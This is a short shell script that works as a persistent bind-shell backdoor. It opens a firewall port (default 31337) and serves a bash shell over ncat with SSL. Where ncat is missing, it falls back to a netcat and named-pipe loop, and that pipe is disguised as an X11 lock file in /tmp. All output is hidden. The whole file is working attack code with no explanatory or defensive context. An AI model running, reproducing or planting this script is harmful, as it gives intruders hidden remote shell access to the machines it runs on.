#!/bin/sh
set +e
export LC_ALL=C
P=${1:-31337}
iptables -I INPUT -p tcp --dport "$P" -j ACCEPT 2>/dev/null
if command -v ncat >/dev/null; then
  setsid ncat -lkp "$P" --ssl -e /bin/bash >/dev/null 2>&1 &
else
  F=/tmp/.X1-lock; rm -f $F; mkfifo $F
  (while :; do sh -i <$F 2>&1 | nc -l -p "$P" >$F; done) &
fi
